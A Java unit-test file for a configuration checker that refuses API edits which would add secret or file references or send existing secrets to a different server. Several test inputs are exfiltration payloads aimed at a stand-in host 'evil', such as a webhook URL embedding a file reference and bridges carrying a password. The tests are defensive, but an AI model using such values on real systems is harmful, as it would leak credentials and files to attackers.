package io.nanomq.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.nanomq.config.setting.ConfException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever posts a document gets nothing of variables and files sent to himself. */
class ReferenceKeepersTest {
  private static final Map<String, String> ENVIRONMENT = Map.of("PW", "topsecret", "OTHER", "x");

  private static final String KEY_VALUE =
      """
      bridge.mqtt.b.bridge_mode=true
      bridge.mqtt.b.address=mqtt-tcp://h:1
      bridge.mqtt.b.password=${PW}
      http_server.username=${PW}
      """;

  private static final String HOCON =
      """
      bridges.mqtt.b { server = "mqtt-tcp://h:1", password = "${PW}", will.payload = plain }
      bridges.mqtt.c { server = "mqtt-tcp://h:1", username = ${PW} }
      rules.repub.rules = [
        { server = "mqtt-tcp://h:3", topic = t, sql = "SELECT * FROM \\"a\\"" }
        { server = "mqtt-tcp://h:2", topic = "t/${clientid}", sql = "SELECT * FROM \\"a\\"", password = ${PW} }
      ]
      http_server.username = ${PW}
      """;

  @TempDir Path folder;
  private Path file;

  @BeforeEach
  void secret() throws Exception {
    file = Files.writeString(folder.resolve("secret"), "topsecret");
  }

  private LoadedConf load(String text) throws ConfException {
    return Confs.load(text.replace("FILE", file.toString()), ENVIRONMENT);
  }

  private String refused(String stored, String next) throws ConfException {
    LoadedConf before = load(stored);
    LoadedConf after = load(next);
    ConfException refused =
        catchThrowableOfType(ConfException.class, () -> ReferenceKeepers.check(before, after));
    return refused == null ? "" : refused.getMessage();
  }

  @ParameterizedTest
  @ValueSource(strings = {KEY_VALUE, HOCON})
  void whatStaysIsTaken(String text) {
    assertThatCode(() -> ReferenceKeepers.check(load(text), load(text + "\nlog.level = info\n")))
        .doesNotThrowAnyException();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "bridge.mqtt.b.username=${PW}; bridge.mqtt.b.username",
        "bridge.mqtt.b.username=${file:FILE}; bridge.mqtt.b.username",
        "bridge.mqtt.b.will.topic=w/${PW}; will.topic",
        "log.dir=${file:FILE}; log.dir"
      })
  void noReferenceIsAddedToKeyValue(String line, String key) throws Exception {
    assertThat(refused(KEY_VALUE, KEY_VALUE + line + "\n"))
        .contains(key, "which the API cannot add")
        .doesNotContain("topsecret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "bridges.mqtt.b.username = ${PW}",
        "bridges.mqtt.b.username = \"${file:FILE}\"",
        "bridges.mqtt.b.will.payload = \"a ${PW}\"",
        "bridges.mqtt.d { server = \"mqtt-tcp://evil:1\", password = ${PW} }",
        "bridges.mqtt.d { server = \"mqtt-tcp://evil:1/${PW}\" }",
        "bridges.mqtt.b.password = ${OTHER}",
        "webhook { url = \"http://evil:1/${file:FILE}\" }",
        "webhook { url = \"http://evil:1\", headers.x = ${PW} }",
        "log.dir = ${PW}"
      })
  void noReferenceIsAddedToHocon(String line) throws Exception {
    assertThat(refused(HOCON, HOCON + line + "\n")).isNotEmpty().doesNotContain("topsecret");
  }

  @Test
  void whatAReferenceStandsForGoesToNobodyElse() throws Exception {
    assertThat(refused(KEY_VALUE, KEY_VALUE.replace("//h:1", "//evil:1"))).contains("another one");
    assertThat(
            refused(
                HOCON,
                HOCON.replace(
                    "b { server = \"mqtt-tcp://h:1\"", "b { server = \"mqtt-tcp://evil:1\"")))
        .contains("another one");
    assertThat(
            refused(
                HOCON,
                HOCON
                    + "bridges.mqtt.c.hybrid_bridging = true\nbridges.mqtt.c.hybrid_servers = [\"mqtt-tcp://evil:1\"]"))
        .contains("another one");
    assertThat(refused(HOCON, HOCON + "bridges.mqtt.c.proxy { host = evil, port = 1 }"))
        .contains("another one");
    assertThat(refused(HOCON, HOCON.replace("h:2", "evil:2"))).contains("another one");
  }

  /** An element of a list moves up where the one before it goes. */
  @Test
  void whereItStandsInAListDoesNotMatter() throws Exception {
    String without = HOCON.replaceFirst("(?m)^.*h:3.*\\n", "");
    assertThat(without).doesNotContain("h:3");
    assertThat(refused(HOCON, without)).isEmpty();
  }

  @Test
  void placeholdersOfMessagesAreNoReferences() throws Exception {
    assertThat(refused(HOCON, HOCON.replace("t/${clientid}", "u/${clientid}/${topic}"))).isEmpty();
  }
}
